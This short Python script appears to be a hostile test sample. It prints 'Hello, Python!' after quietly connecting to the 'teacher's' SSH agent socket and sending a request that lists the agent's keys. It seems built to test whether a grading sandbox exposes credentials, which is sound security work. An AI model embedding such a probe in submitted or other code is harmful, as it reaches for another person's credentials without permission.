import os
import socket

# A program that asks the teacher's ssh-agent for its keys (SSH_AGENT_REQUEST_IDENTITIES), by
# the variable if it has it, else by the agent's path.
where = os.environ.get("SSH_AUTH_SOCK") or os.environ["HOSTILE_AGENT"]
with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as agent:
    agent.settimeout(5)
    agent.connect(where)
    agent.sendall(b"\0\0\0\x01\x0b")
    print(agent.recv(100))
print("Hello, Python!")
